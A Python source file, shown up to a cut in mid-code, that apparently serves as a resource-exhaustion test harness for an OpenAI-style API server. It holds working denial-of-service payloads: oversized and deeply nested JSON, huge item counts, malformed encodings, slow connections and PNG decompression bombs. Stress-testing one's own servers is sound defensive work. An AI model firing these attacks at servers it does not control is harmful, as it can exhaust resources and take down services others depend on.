"""HTTP and WebSocket clients that try to take the server's memory or time.

Each attack aims just below, at or above a documented limit, or at what may have been forgotten.
It counts what the server answers, ends within 15 seconds and closes its sockets. Bounds of one
attack: 10 MiB a request, 96 MiB in all, 1,200 connections; what it compresses is 128 MiB long.
"""

import asyncio
import base64
import io
import json
import re
import resource
import socket
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass

MIB = 1 << 20
MOST_BODY = 8 * MIB
MOST_VALUES = 250_000
MOST_TOOL_VALUES = 30_000
MOST_SERVER_CONNECTIONS = 512

ATTACK_SECONDS = 13.0
HOLD_SECONDS = 6.0
MOST_REQUEST = 10 * MIB
MOST_BYTES = 96 * MIB
MOST_CONNECTIONS = 1_200
BOMB_BYTES = 128 * MIB
PIECE = 1 << 18

RESPONSES = "/v1/responses"
CHAT = "/v1/chat/completions"
TOKENS = "/v1/responses/input_tokens"
COMPACT = "/v1/responses/compact"

_STATUS = re.compile(rb"HTTP/1\.[01] (\d{3})")
_RESPONSE_ID = re.compile(rb'"id":\s*"(resp_[^"]{1,200})"')
_LAST_EVENT = re.compile(rb'"type":\s*"(error|response\.(?:completed|failed|incomplete))"')


@dataclass(frozen=True)
class Target:
    """The server to attack."""

    host: str
    port: int
    model: str


@dataclass(frozen=True)
class Answer:
    """The first status of an answer, or what came instead of one, and some of its body."""

    label: str
    body: bytes = b""


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Payload = bytes | Iterable[bytes]


class Clients:
    """The connections of one attack, and the counts of what the server answered."""

    def __init__(self, target: Target) -> None:
        self.target = target
        self.answers: Counter[str] = Counter()
        self.notes: list[str] = []
        self._writers: set[asyncio.StreamWriter] = set()
        self._connections = 0
        self._sent = 0

    async def connect(self, *, unread: bool = False) -> Streams:
        """Open a connection; with unread, its buffers are small and nobody empties them."""
        self._connections += 1
        if self._connections > MOST_CONNECTIONS:
            raise RuntimeError("An attack opened too many connections.")
        host, port = self.target.host, self.target.port
        sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        try:
            sock.setblocking(False)
            if unread:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            reader, writer = await asyncio.open_connection(
                sock=sock, limit=1 if unread else 1 << 16
            )
        except BaseException:
            sock.close()
            raise
        self._writers.add(writer)
        return reader, writer

    def leave(self, writer: asyncio.StreamWriter, *, reset: bool = False) -> None:
        """Close a connection at once; with reset, by a RST segment."""
        if reset:
            sock: socket.socket | None = writer.get_extra_info("socket")
            if sock is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()
        self._writers.discard(writer)

    async def close(self) -> None:
        """Close all connections that are still open."""
        for writer in list(self._writers):
            self.leave(writer)
        for _ in range(3):
            await asyncio.sleep(0)

    async def send(self, writer: asyncio.StreamWriter, data: Payload, pause: float = 0) -> None:
        """Send bytes, or pieces with pauses between them, and count them."""
        pieces = _cut(data) if isinstance(data, bytes) else data
        request = 0
        for piece in pieces:
            request += len(piece)
            self._sent += len(piece)
            if request > MOST_REQUEST or self._sent > MOST_BYTES:
                raise RuntimeError("An attack sent too many bytes.")
            writer.write(piece)
            await writer.drain()
            if pause:
                await asyncio.sleep(pause)

    @asynccontextmanager
    async def sending(
        self, data: Payload, *, pause: float = 0, unread: bool = False
    ) -> AsyncIterator[asyncio.StreamReader]:
        """Open a connection and send on it while its reader is used."""
        reader, writer = await self.connect(unread=unread)
        task = asyncio.create_task(self._send_quietly(writer, data, pause))
        try:
            yield reader
        finally:
            task.cancel()
            self.leave(writer)
            (error,) = await asyncio.gather(task, return_exceptions=True)
            if isinstance(error, RuntimeError):
                raise error

    async def _send_quietly(
        self, writer: asyncio.StreamWriter, data: Payload, pause: float
    ) -> None:
        try:
            await self.send(writer, data, pause)
        except OSError:
            pass  # the reader says what happened

    async def ask(
        self, data: Payload, *, seconds: float = 8.0, pause: float = 0, count: bool = True
    ) -> Answer:
        """Send one request on a new connection and read its answer to the end."""
        label, body = "silence", b""
        try:
            async with (
                asyncio.timeout(seconds),
                self.sending(data, pause=pause) as reader,
            ):
                label = await _read_status(reader)
                body = await _read_some(reader)
        except TimeoutError:
            if label != "silence":
                label += " without end"
        except OSError:
            if label == "silence":
                label = "reset"
        if count:
            self.answers[label] += 1
        return Answer(label, body)

    async def ask_each(self, requests: Iterable[Payload], *, seconds: float = 8.0) -> None:
        """Send requests one after the other."""
        for data in requests:
            await self.ask(data, seconds=seconds)

    async def ask_together(
        self,
        requests: Iterable[Payload],
        *,
        seconds: float = HOLD_SECONDS,
        pause: float = 0,
        at_once: int = MOST_CONNECTIONS,
    ) -> None:
        """Send requests at the same time, on a connection each."""
        gate = asyncio.Semaphore(at_once)

        async def ask_once(data: Payload) -> None:
            async with gate:
                await self.ask(data, seconds=seconds, pause=pause)

        async with asyncio.TaskGroup() as group:
            for data in requests:
                group.create_task(ask_once(data))

    async def hold(self, requests: Iterable[Payload], *, seconds: float = HOLD_SECONDS) -> None:
        """Send requests together and read nothing of the answers; then leave."""

        async def hold_open(data: Payload) -> None:
            label = "silence"
            try:
                reader, writer = await self.connect(unread=True)
                try:
                    async with asyncio.timeout(seconds):
                        await self.send(writer, data)
                        await asyncio.sleep(seconds)
                except TimeoutError:
                    pass
                async with asyncio.timeout(0.3):
                    found = _STATUS.match(await reader.read(64))
                    label = f"{found[1].decode()} unread" if found else "closed"
                self.leave(writer)
            except TimeoutError:
                pass
            except OSError:
                label = "reset"
            self.answers[label] += 1

        async with asyncio.TaskGroup() as group:
            for data in requests:
                group.create_task(hold_open(data))

    async def hurry(
        self, requests: Iterable[bytes], *, wait: float = 0, reset: bool = False
    ) -> None:
        """Send requests one after the other, and leave each after a moment."""
        for data in requests:
            try:
                async with asyncio.timeout(3):
                    _, writer = await self.connect()
                    await self.send(writer, data)
                    await asyncio.sleep(wait)
                    self.leave(writer, reset=reset)
                self.answers["left"] += 1
            except TimeoutError:
                self.answers["silence"] += 1
            except OSError:
                self.answers["reset"] += 1

    async def pipeline(self, data: bytes, count: int, *, seconds: float = 8.0) -> None:
        """Send many requests in one go on one connection, and count the answers to them."""
        tail, found = b"", 0
        try:
            async with asyncio.timeout(seconds), self.sending(data) as reader:
                while found < count and (piece := await reader.read(PIECE)):
                    for status in _STATUS.findall(tail + piece):
                        self.answers[status.decode()] += 1
                        found += 1
                    tail = (tail + piece)[-11:]
        except TimeoutError:
            self.answers["silence"] += 1
        except OSError:
            self.answers["reset"] += 1
        if found < count:
            self.notes.append(f"{found} of {count} were answered")

    async def talk(
        self,
        data: Payload,
        *,
        replies: int = 1,
        seconds: float = 6.0,
        pause: float = 0,
        heads: bytes = b"",
    ) -> None:
        """Open a WebSocket, send frames, and count what comes until so many turns have ended."""
        try:
            async with asyncio.timeout(seconds):
                reader, writer = await self.open_websocket(heads)
                task = asyncio.create_task(self._send_quietly(writer, data, pause))
                try:
                    await self._hear(reader, replies)
                finally:
                    task.cancel()
                    self.leave(writer)
                    (error,) = await asyncio.gather(task, return_exceptions=True)
                    if isinstance(error, RuntimeError):
                        raise error
        except TimeoutError:
            self.answers["silence"] += 1
        except (OSError, asyncio.IncompleteReadError):
            self.answers["reset"] += 1
        except NoWebSocket as error:
            self.answers[str(error)] += 1

    async def open_websocket(self, heads: bytes) -> Streams:
        """Upgrade a connection."""
        reader, writer = await self.connect()
        await self.send(writer, upgrade(self.target, heads))
        status = await _read_status(reader)
        if status != "101":
            raise NoWebSocket(status)
        return reader, writer

    async def _hear(self, reader: asyncio.StreamReader, replies: int) -> None:
        heard = 0
        while heard < replies:
            first, second = await reader.readexactly(2)
            length = second & 127
            if length >= 126:
                length = int.from_bytes(await reader.readexactly(2 if length == 126 else 8), "big")
            if length > 4 * MOST_REQUEST:
                self.answers["frame too long"] += 1
                return
            payload = await reader.readexactly(length)
            opcode = first & 15
            if opcode == 8:
                self.answers[f"close {int.from_bytes(payload[:2], 'big')}"] += 1
                return
            if opcode in (9, 10):
                self.answers["pong" if opcode == 10 else "ping"] += 1
            elif found := _LAST_EVENT.search(payload):
                self.answers[found[1].decode()] += 1
                heard += 1

    def describe(self) -> str:
        """Say in one sentence what came back."""
        counts = ", ".join(f"{label} ×{count}" for label, count in self.answers.most_common(12))
        return "; ".join([counts or "no answer", *self.notes]) + "."


class NoWebSocket(Exception):
    """The server did not upgrade; the message is its status."""


def _cut(data: bytes) -> Iterator[bytes]:
    for start in range(0, len(data), PIECE):
        yield data[start : start + PIECE]


async def _read_status(reader: asyncio.StreamReader) -> str:
    while True:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except asyncio.IncompleteReadError as error:
            head = error.partial
        except asyncio.LimitOverrunError:
            head = await reader.read(1024)
        found = _STATUS.match(head)
        if not found:
            return "no HTTP" if head else "closed"
        if found[1] != b"100":
            return found[1].decode()


async def _read_some(reader: asyncio.StreamReader, most: int = 1 << 16) -> bytes:
    """Read to the end, and return the beginning."""
    body = b""
    while piece := await reader.read(PIECE):
        if len(body) < most:
            body += piece[:most]
    return body


# Requests.


def request(
    target: Target,
    path: str = RESPONSES,
    body: bytes | None = None,
    *heads: str,
    method: str = "",
    close: bool = True,
) -> bytes:
    """Write a request; a body gets its Content-Length and is JSON."""
    lines = [f"{method or ('GET' if body is None else 'POST')} {path} HTTP/1.1", _host(target)]
    if close:
        lines.append("Connection: close")
    if body is not None:
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, *heads, "", ""]).encode() + (body or b"")


def begin(target: Target, *heads: str, path: str = RESPONSES) -> bytes:
    """Write the head of a POST, with all lines about its body left to the caller."""
    lines = [f"POST {path} HTTP/1.1", _host(target), "Content-Type: application/json", *heads]
    return "\r\n".join([*lines, "", ""]).encode()


def upgrade(target: Target, heads: bytes = b"") -> bytes:
    """Write the request that opens a WebSocket."""
    return (
        f"GET {RESPONSES} HTTP/1.1\r\n{_host(target)}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n"
    ).encode() + (heads + b"\r\n")


def _host(target: Target) -> str:
    host = f"[{target.host}]" if ":" in target.host else target.host
    return f"Host: {host}:{target.port}"


def fields(target: Target, text: bytes = b"", *, store: bool = False) -> bytes:
    """Write a request's JSON object: a model, few tokens, and the given fields."""
    start = {"model": target.model, "max_output_tokens": 16, "store": store}
    text = text or b'"input":"Hi"'
    return json.dumps(start).encode()[:-1] + b"," + text + b"}"


def chat(target: Target, text: bytes) -> bytes:
    """Write the JSON object of a chat completion."""
    start = {"model": target.model, "max_tokens": 16}
    return json.dumps(start).encode()[:-1] + b"," + text + b"}"


def post(target: Target, text: bytes = b"", *, store: bool = False, close: bool = True) -> bytes:
    """Write a whole POST /v1/responses."""
    return request(target, RESPONSES, fields(target, text, store=store), close=close)


def fill(target: Target, before: bytes, size: int, after: bytes) -> bytes:
    """Write an object of exactly so many bytes, padded between two texts."""
    rest = size - len(fields(target, before + after))
    return fields(target, before + b"a" * rest + after)


# JSON values.


def repeat(item: bytes, count: int, start: bytes = b"[", end: bytes = b"]") -> bytes:
    """Write a list, or something between other brackets, of equal items."""
    return start + (item + b",") * (count - 1) + item + end


def number(template: bytes, count: int, start: bytes = b"[", end: bytes = b"]") -> bytes:
    """Write a list of items that differ by a number (%d)."""
    return start + b",".join(template % index for index in range(count)) + end


def nest(depth: int, start: bytes = b"[", end: bytes = b"]", inner: bytes = b"") -> bytes:
    """Write a value of some depth."""
    return start * depth + inner + end * depth


def write_shapes(values: int, size: int) -> Iterator[bytes]:
    """Write JSON values of many shapes: at most so many values, about so many bytes."""
    yield repeat(b"[]", values)
    yield repeat(b"{}", values)
    yield repeat(b'{"a":0}', values // 2)
    yield repeat(b'{"a":{"b":[]}}', values // 5)
    yield repeat(b"[[[[]]]]", values // 4)
    yield number(b"%d000001", values)
    yield repeat(b"-1.5e-300", values)
    yield number(b'"\xc3\xa9%d"', values)
    yield number(b'"k%d":0', values // 2, b"{", b"}")
    yield repeat(b'"a":[]', values, b"{", b"}")
    yield repeat(b"NaN,-Infinity", values // 2)
    for depth in (100, 200, 500, 900, 990, 1_000, 5_000, 100_000):
        yield nest(depth)
        yield nest(depth, b'{"a":', b"}", b"0")
    yield from write_strings(size)
    yield from write_numbers(size)


def write_strings(size: int) -> Iterator[bytes]:
    """Write long strings: wide ones, escaped ones, ones that are no Unicode."""
    yield b'"' + b"a" * (size - 6) + b'\xf0\x9f\x98\x80"'
    yield b'"' + rb"\u0000" * ((size - 2) // 6) + b'"'
    yield b'"' + rb"\ud83d\ude00" * ((size - 2) // 12) + b'"'
    yield b'"' + rb"\ud800" * ((size - 2) // 12) + b'"'


def write_numbers(size: int) -> Iterator[bytes]:
    """Write numbers with very many digits, and lists of rather long ones."""
    yield b"9" * (size // 4)
    yield b"0." + b"3" * (size // 4)
    yield b"1e" + b"9" * 10_000
    yield b"1E+999999999"
    yield repeat(b"9" * 4_300, size // 16 // 4_301)
    yield repeat(b"9" * 4_301, size // 16 // 4_302)


def shape_field(path: str, template: bytes, *, values: int) -> Callable[[Clients], Awaitable[None]]:
    """Return an attack that puts all shapes, one after the other, into one field."""
    before, after = template.split(b"$")

    async def run(clients: Clients) -> None:
        write = chat if path == CHAT else fields
        for shape in write_shapes(values, MOST_BODY - len(template) - 256):
            body = write(clients.target, before + shape + after)
            await clients.ask(request(clients.target, path, body), seconds=5)

    return run


_IN_MESSAGE = b'"input":[{"role":"user","content":'
_IN_CALL = b'"input":[{"type":"function_call","call_id":"c","name":"f","arguments":'
_IN_TOOL = b'"input":"Hi","tools":[{"type":"function","name":"f",'
_IN_FORMAT = b'"input":"Hi","text":{"format":{"type":"json_schema","name":"n",'
_FIELDS: dict[str, tuple[str, bytes]] = {
    "the input": (RESPONSES, b'"input":$'),
    "a message's content": (RESPONSES, _IN_MESSAGE + b"$}]"),
    "a content part's text": (RESPONSES, _IN_MESSAGE + b'[{"type":"input_text","text":$}]}]'),
    "an unknown content part": (RESPONSES, _IN_MESSAGE + b'[{"type":"x","x":$}]}]'),
    "an image's address": (RESPONSES, _IN_MESSAGE + b'[{"type":"input_image","image_url":$}]}]'),
    "a call's arguments": (RESPONSES, _IN_CALL + b"$}]"),
    "a call's result": (
        RESPONSES,
        _IN_CALL + b'"{}"},{"type":"function_call_output","call_id":"c","output":$}]',
    ),
    "a reasoning item": (
        RESPONSES,
        b'"input":[{"type":"reasoning","id":"r","summary":$,"content":[]},'
        b'{"role":"user","content":"Hi"}]',
    ),
    "an unknown item": (RESPONSES, b'"input":[{"type":"x","x":$}]'),
    "the instructions": (RESPONSES, b'"input":"Hi","instructions":$'),
    "the metadata": (RESPONSES, b'"input":"Hi","metadata":$'),
    "one value of the metadata": (RESPONSES, b'"input":"Hi","metadata":{"k":$}'),
    "an unknown field": (RESPONSES, b'"input":"Hi","x":$'),
    "the user": (RESPONSES, b'"input":"Hi","user":$,"prompt_cache_key":"k"'),
    "the previous response": (RESPONSES, b'"input":"Hi","previous_response_id":$'),
    "the include list": (RESPONSES, b'"input":"Hi","include":$'),
    "the tool choice": (RESPONSES, b'"input":"Hi","tool_choice":$'),
    "the reasoning": (RESPONSES, b'"input":"Hi","reasoning":$'),
    "the temperature": (RESPONSES, b'"input":"Hi","temperature":$'),
    "the prompt": (RESPONSES, b'"input":"Hi","prompt":{"id":"p","variables":$}'),
    "the list of tools": (RESPONSES, b'"input":"Hi","tools":$'),
    "a tool's parameters": (RESPONSES, _IN_TOOL + b'"parameters":$}]'),
    "a tool's enum": (
        RESPONSES,
        _IN_TOOL + b'"strict":true,"parameters":{"type":"object","properties":'
        b'{"a":{"enum":$}},"required":["a"],"additionalProperties":false}}]',
    ),
    "a tool's description": (RESPONSES, _IN_TOOL + b'"description":$,"parameters":{}}]'),
    "a format's schema": (RESPONSES, _IN_FORMAT + b'"schema":$}}'),
    "a format's default": (
        RESPONSES,
        _IN_FORMAT + b'"schema":{"type":"object","properties":{"a":{"default":$}}}}}',
    ),
    "chat messages": (CHAT, b'"messages":$'),
    "a chat message's content": (CHAT, b'"messages":[{"role":"user","content":$}]'),
    "chat's bias of tokens": (
        CHAT,
        b'"messages":[{"role":"user","content":"Hi"}],"logit_bias":$,"stop":["x"]',
    ),
    "a request that only counts tokens": (TOKENS, b'"input":$'),
    "a history to summarise": (COMPACT, b'"model":"default","input":$'),
}

ATTACKS: dict[str, Callable[[Target], Awaitable[str]]] = {}
_many: set[str] = set()


def _add(name: str, run: Callable[[Clients], Awaitable[None]], *, many: bool = False) -> None:
    async def attack(target: Target) -> str:
        if many and not allow_open_files(MOST_CONNECTIONS + 200):
            return "Skipped: this process may not open enough files."
        clients = Clients(target)
        try:
            async with asyncio.timeout(ATTACK_SECONDS):
                await run(clients)
        except TimeoutError:
            clients.notes.append(f"stopped after {ATTACK_SECONDS:.0f} s")
        except OSError as error:
            clients.notes.append(f"ended by {type(error).__name__}")
        finally:
            await clients.close()
        return clients.describe()

    if name in ATTACKS:
        raise ValueError(f"Two attacks are called {name}.")
    ATTACKS[name] = attack
    if many:
        _many.add(name)


def _attack(
    name: str, *, many: bool = False
) -> Callable[[Callable[[Clients], Awaitable[None]]], Callable[[Clients], Awaitable[None]]]:
    def add(run: Callable[[Clients], Awaitable[None]]) -> Callable[[Clients], Awaitable[None]]:
        _add(name, run, many=many)
        return run

    return add


def allow_open_files(count: int) -> bool:
    """Raise this process's limit of open files, if need be; say whether that worked."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft == resource.RLIM_INFINITY or soft >= count:
        return True
    if hard != resource.RLIM_INFINITY and hard < count:
        return False
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (count, hard))
    except (OSError, ValueError):
        return False
    return True


for _name, (_path, _template) in _FIELDS.items():
    _tool = "tool" in _name and b'"tools"' in _template
    _values = (MOST_TOOL_VALUES if _tool else MOST_VALUES) - 100
    _add(f"put every shape into {_name}", shape_field(_path, _template, values=_values))


# Numbers of values and bytes, around the limits.


@_attack("send bodies one byte around the limit")
async def _send_edge_bodies(clients: Clients) -> None:
    target = clients.target
    for size in (MOST_BODY - 1, MOST_BODY, MOST_BODY + 1, MOST_REQUEST - 1024):
        for before in (b'"input":"', b'"input":"Hi","x":"'):
            await clients.ask(request(target, RESPONSES, fill(target, before, size, b'"')))


@_attack("send values around the limit")
async def _send_edge_values(clients: Clients) -> None:
    for count in (MOST_VALUES - 20, MOST_VALUES - 3, MOST_VALUES, MOST_VALUES + 1, 2 * MOST_VALUES):
        for item in (b"[]", b"0"):
            text = b'"input":"Hi","x":' + repeat(item, count)
            await clients.ask(post(clients.target, text))


@_attack("send tools' values around their limit")
async def _send_edge_tool_values(clients: Clients) -> None:
    for count in (MOST_TOOL_VALUES - 30, MOST_TOOL_VALUES, MOST_TOOL_VALUES + 1, 8 * 30_000):
        for value in (repeat(b'"a"', count), number(b'"v%d"', count)):
            schema = b'{"type":"object","properties":{"a":{"type":"string","enum":%b}}}' % value
            await clients.ask(post(clients.target, _IN_TOOL + b'"parameters":' + schema + b"}]"))


@_attack("send the most values that 8 MiB can be")
async def _send_most_values(clients: Clients) -> None:
    size = MOST_BODY - 256
    for item in (b"[]", b"{}", b"0", b'""', b'{"":[]}', b"[[],[]]", b"-0.0"):
        text = b'"input":' + repeat(item, size // (len(item) + 1))
        await clients.ask(post(clients.target, text))


@_attack("send the longest bodies at once")
async def _send_long_bodies_together(clients: Clients) -> None:
    data = post(clients.target, b'"input":"Hi","x":' + repeat(b"[]", MOST_BODY // 3 - 128))
    await clients.ask_together([data] * 11, seconds=10)


@_attack("send bodies with the most allowed values at once")
async def _send_most_allowed_together(clients: Clients) -> None:
    data = post(clients.target, b'"input":' + repeat(b'{"a":[]}', MOST_VALUES // 2 - 20))
    await clients.ask_together([data] * 32, seconds=11)


@_attack("hide values in spaces, tabs and broken ends")
async def _send_spaces(clients: Clients) -> None:
    target, size = clients.target, MOST_BODY - 512
    many = repeat(b"[]", MOST_VALUES - 100)
    for text in (
        b'"input":' + b" \t\r\n" * (size // 4) + b'"Hi"',
        b'"x":' + many[:-1],
        b'"x":' + many + b"]",
        b'"x":"\\"' + b"[]," * (size // 3) + b'"',
        b'"x":"' + b"\\\\" * (size // 2) + b'"',
        b'"x":"' + b'\\"' * (size // 2) + b'"',
        b'"x":"' + b"\\" * 100_001 + b'"',
        b'"x":"\x00\x01\n"',
        b'"x":"' + b"\xff\xfe\xc0\x80" * 100_000 + b'"',
    ):
        await clients.ask(post(target, text))


@_attack("send bodies in other encodings and other kinds")
async def _send_encodings(clients: Clients) -> None:
    target, text = clients.target, "[" + "[]," * 700_000 + "[]]"
    for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig", "utf-7"):
        body = text[: 1_900_000 if "32" in encoding else 3_900_000].encode(encoding)
        await clients.ask(request(target, RESPONSES, body))
    form = b"--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n" * 100_000 + b"--b--"
    for body, kind in (
        (b"a=1&" * 2_000_000, "application/x-www-form-urlencoded"),
        (form, "multipart/form-data; boundary=b"),
        (b"[]" * 4_000_000, "text/plain; charset=" + "x" * 4_000),
        (b"0" * 4_000_000, "application/json; charset=utf-16"),
    ):
        head = begin(target, "Connection: close", f"Content-Length: {len(body)}")
        await clients.ask(head.replace(b"application/json", kind.encode()) + body)


@_attack("send texts that are JSON of many values again")
async def _send_json_in_strings(clients: Clients) -> None:
    target, size = clients.target, MOST_BODY - 1024
    output = b'"{}"},{"type":"function_call_output","call_id":"c","output":'
    tail = b'},{"type":"function_call_output","call_id":"c","output":"1"}]'
    for inner in (repeat(b"[]", size // 3), nest(size // 2), b"[" * size):
        for before, after in ((_IN_CALL, tail), (_IN_CALL + output, b"}]")):
            await clients.ask(post(target, before + b'"' + inner + b'"' + after), seconds=4)
    inner = b'{\\"a\\":' + repeat(b"[]", size // 3 - 16) + b"}"
    await clients.ask(post(target, _IN_CALL + b'"' + inner + b'"' + tail), seconds=4)
    call = b'{"id":"c","type":"function","function":{"name":"f","arguments":"' + inner + b'"}}'
    text = b'"messages":[{"role":"assistant","content":null,"tool_calls":[' + call + b"]},"
    text += b'{"role":"tool","tool_call_id":"c","content":"1"}]'
    await clients.ask(request(target, CHAT, chat(target, text)), seconds=4)
    item = (
        b'{"type":"mcp_call","id":"m","server_label":"s","name":"f","arguments":"%b","output":"1"}'
    )
    await clients.ask(post(target, b'"input":[' + item % inner + b"]"), seconds=4)


# Numbers of items, messages and tools.


def _items(clients: Clients, item: bytes, counts: Iterable[int]) -> Iterator[bytes]:
    for count in counts:
        write = number if b"%d" in item else repeat
        yield post(clients.target, b'"input":' + write(item, count))


@_attack("send tens of thousands of messages")
async def _send_many_messages(clients: Clients) -> None:
    item = b'{"role":"user","content":"a"}'
    await clients.ask_each(_items(clients, item, (1_000, 9_999, 10_000, 10_001, 83_000)), seconds=5)
    text = b'"messages":' + repeat(item, 83_000)
    await clients.ask(request(clients.target, CHAT, chat(clients.target, text)))


@_attack("send tens of thousands of calls and results")
async def _send_many_calls(clients: Clients) -> None:
    item = (
        b'{"type":"function_call","call_id":"c%d","name":"f","arguments":"{}"},'
        b'{"type":"function_call_output","call_id":"d","output":"x"}'
    )
    requests = _items(clients, item, (1_000, 5_000, 10_000, 27_000))
    await clients.ask_each((data.replace(b'"d"', b'"c1"') for data in requests), seconds=4)


@_attack("send tens of thousands of items of rare types")
async def _send_rare_items(clients: Clients) -> None:
    rare = (
        b'{"type":"item_reference","id":"msg_%d"}',
        b'{"type":"reasoning","id":"rs_%d","summary":[],"encrypted_content":"AAAA"}',
        b'{"type":"mcp_approval_response","approval_request_id":"a%d","approve":true}',
        b'{"type":"mcp_list_tools","id":"l%d","server_label":"s","tools":[]}',
        b'{"type":"compaction","id":"c%d","encrypted_content":"AAAA"}',
        b'{"type":"custom_tool_call","id":"u%d","call_id":"c","name":"f","input":"x"}',
        b'{"type":"web_search_call","id":"w%d","status":"completed"}',
    )
    for item in rare:
        await clients.ask_each(_items(clients, item, (9_999, 40_000)), seconds=3)


@_attack("send tens of thousands of content parts")
async def _send_many_parts(clients: Clients) -> None:
    for part in (
        b'{"type":"input_text","text":"a"}',
        b'{"type":"input_image","image_url":"data:image/png;base64,AA=="}',
        b'{"type":"input_file","file_data":"data:text/plain;base64,AA=="}',
    ):
        for count in (9_999, 80_000):
            text = _IN_MESSAGE + repeat(part, count) + b"}]"
            await clients.ask(post(clients.target, text), seconds=4)


@_attack("offer thousands of tools")
async def _offer_many_tools(clients: Clients) -> None:
    tool = b'{"type":"function","name":"f%d","parameters":{}}'
    for count in (128, 1_000, 7_000, 10_000, 60_000):
        await clients.ask(post(clients.target, b'"input":"Hi","tools":' + number(tool, count)))
    tool = b'{"type":"custom","name":"f%d","format":{"type":"text"}}'
    for count in (1_000, 10_000):
        await clients.ask(post(clients.target, b'"input":"Hi","tools":' + number(tool, count)))


@_attack("name thousands of servers of tools that do not exist")
async def _name_many_servers(clients: Clients) -> None:
    tool = b'{"type":"mcp","server_label":"s%d","server_url":"http://127.0.0.1:1/"}'
    for count in (64, 1_000, 7_000):
        await clients.ask(post(clients.target, b'"input":"Hi","tools":' + number(tool, count)))
    names = number(b'"n%d"', 29_000)
    for more in (
        b'"allowed_tools":' + names,
        b'"headers":' + number(b'"h%d":"x"', 9_000, b"{", b"}"),
    ):
        tool = b'[{"type":"mcp","server_label":"s","server_url":"http://127.0.0.1:1/",%b}]' % more
        await clients.ask(post(clients.target, b'"input":"Hi","tools":' + tool))


@_attack("repeat every field of a request thousands of times")
async def _repeat_fields(clients: Clients) -> None:
    for pair in (b'"input":"Hi"', b'"tools":[]', b'"stream":true', b'"metadata":{"a":"b"}'):
        text = b'"input":"Hi",' + repeat(pair, 100_000, b"", b"")
        await clients.ask(post(clients.target, text))
    text = b'"input":"Hi",' + number(b'"unknown%d":1', MOST_VALUES - 100, b"", b"")
    await clients.ask(post(clients.target, text))


@_attack("ask for numbers beyond any range")
async def _ask_huge_numbers(clients: Clients) -> None:
    for name in ("max_output_tokens", "temperature", "top_p", "top_logprobs", "max_tool_calls"):
        for value in (
            "1e308",
            "-1",
            "9" * 300,
            "NaN",
            "1e999",
            "18446744073709551616",
            "0",
            "true",
        ):
            text = f'"input":"Hi","{name}":{value}'.encode()
            await clients.ask(post(clients.target, text), seconds=1)


@_attack("ask for all that makes an answer long")
async def _ask_long_answers(clients: Clients) -> None:
    target = clients.target
    text = b"word " * 1_500
    for more in (
        b'"enable_response_messages":true',
        b'"enable_response_messages":true,"stream":true',
        b'"top_logprobs":20,"include":["message.output_text.logprobs"]',
        b'"include":["reasoning.encrypted_content"],"stream":true',
        b'"stream":true,"stream_options":{"include_obfuscation":true}',
    ):
        data = post(target, more + b',"instructions":"' + text + b'","input":"Hi"')
        await clients.ask_together([data] * 8, seconds=3)
    for more in (b'"n":128', b'"n":1000000000', b'"logprobs":true,"top_logprobs":20', b'"n":-1'):
        messages = b'"messages":[{"role":"user","content":"' + text + b'"}]'
        data = request(target, CHAT, chat(target, messages + b"," + more))
        await clients.ask_together([data] * 4, seconds=2)


# Texts that are hard to take apart.


def _hard_texts(size: int) -> Iterator[bytes]:
    for piece in (b"a", b" ", rb"\n", b"0", b"aB", "\u0301".encode(), "👩‍👩‍👧".encode(), b"!"):
        yield piece * (size // len(piece))
    for piece in (b"<|start|>", b"<|", "\u202e".encode(), b" a", b"<tool_call>"):
        yield piece * (size // len(piece))


@_attack("send long texts of one letter")
async def _send_hard_texts(clients: Clients) -> None:
    for text in _hard_texts(MIB):
        await clients.ask(post(clients.target, b'"input":"' + text + b'"'), seconds=4)
    for text in (b"a" * 7 * MIB, b" " * 7 * MIB):
        await clients.ask(post(clients.target, b'"input":"' + text + b'"'), seconds=4)


@_attack("count the tokens of long texts of one letter")
async def _count_hard_texts(clients: Clients) -> None:
    target = clients.target
    for text in _hard_texts(4 * MIB):
        body = json.dumps({"model": target.model}).encode()[:-1] + b',"input":"' + text + b'"}'
        await clients.ask(request(target, TOKENS, body), seconds=4)


@_attack("count the tokens of many long texts at once")
async def _count_long_texts_together(clients: Clients) -> None:
    target = clients.target
    body = json.dumps({"model": target.model, "input": "word, " * 300_000}).encode()
    await clients.ask_together([request(target, TOKENS, body)] * 50, seconds=10)


# Images and files.


def squeeze(size: int, *, bits: int = 15, byte: bytes = b"\0") -> bytes:
    """Compress so many equal bytes without holding them."""
    packer = zlib.compressobj(6, zlib.DEFLATED, bits)
    block = byte * MIB
    return b"".join(packer.compress(block) for _ in range(size // MIB)) + packer.flush()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = (_chunk(b"IHDR", head), *more, _chunk(b"IDAT", data), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _images() -> Iterator[tuple[str, bytes]]:
    few = zlib.compress(b"\0" * 100)
    yield "image/png", _png(65_535, 65_535, few)
    yield "image/png", _png(2**31 - 1, 2**31 - 1, few)
    yield "image/png", _png(11_000, 11_000, squeeze(BOMB_BYTES))
    text = _chunk(b"zTXt", b"Comment\0\0" + squeeze(BOMB_BYTES))
    yield "image/png", _png(1, 1, few, *([text] * 4))
    yield (
        "image/gif",
